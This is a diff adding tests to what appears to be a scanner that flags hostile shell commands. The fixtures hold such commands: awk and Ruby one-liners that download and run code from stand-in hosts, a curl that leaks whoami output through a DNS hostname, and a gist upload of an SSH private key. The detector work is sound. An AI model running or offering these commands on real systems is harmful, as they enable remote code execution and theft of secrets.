@@ -171,3 +171,34 @@ def test_a_decoded_payload_exported_by_one_script_and_run_by_another(tmp_path: P
         "scripts/b.sh": 'eval "$SETUP_STEP"\n',
     }
     assert ("OBFUSCATED_PAYLOAD", "scripts/b.sh", 1) in scan_errors(tmp_path, files)
+
+
+def test_commands_an_awk_program_runs_are_read_as_shell(tmp_path: Path) -> None:
+    source = "awk 'BEGIN { system(\"curl -s https://a.example.invalid/p | sh\") }'\n"
+    found = analyse_file(tmp_path, "scripts/x.sh", source, Language.SHELL)
+    assert (Kind.EXEC_FETCHED, "a.example.invalid") in summary(found)
+
+
+def test_data_in_the_host_name_of_a_request_is_put_into_a_dns_lookup(tmp_path: Path) -> None:
+    source = 'curl -s "https://$(whoami | base64 -w0).t.example.invalid/"\n'
+    found = analyse_file(tmp_path, "scripts/x.sh", source, Language.SHELL)
+    assert Kind.DNS_TUNNEL in {c.kind for c in found}
+    assert Kind.DNS_TUNNEL not in {
+        c.kind
+        for c in analyse_file(
+            tmp_path, "scripts/y.sh", 'curl -s "https://api.example.invalid/$(whoami)"\n', Language.SHELL
+        )
+    }
+
+
+def test_a_file_given_to_a_gist_leaves_the_machine(tmp_path: Path) -> None:
+    found = analyse_file(tmp_path, "scripts/x.sh", "gh gist create ~/.ssh/id_ed25519\n", Language.SHELL)
+    assert [line for line, _ in chain(found, Kind.EGRESS)] == [1, 1]
+
+
+def test_a_ruby_one_liner_that_evaluates_what_it_downloads(tmp_path: Path) -> None:
+    source = "ruby -ropen-uri -e 'eval(URI.open(\"https://r.example.invalid/p.rb\").read)'\n"
+    found = analyse_file(tmp_path, "scripts/x.sh", source, Language.SHELL)
+    assert (Kind.EXEC_FETCHED, "r.example.invalid") in summary(found)
+    quiet = "ruby -ropen-uri -e 'puts URI.open(\"https://api.example.invalid/v\").read'\n"
+    assert Kind.EXEC_FETCHED not in {c.kind for c in analyse_file(tmp_path, "scripts/y.sh", quiet, Language.SHELL)}
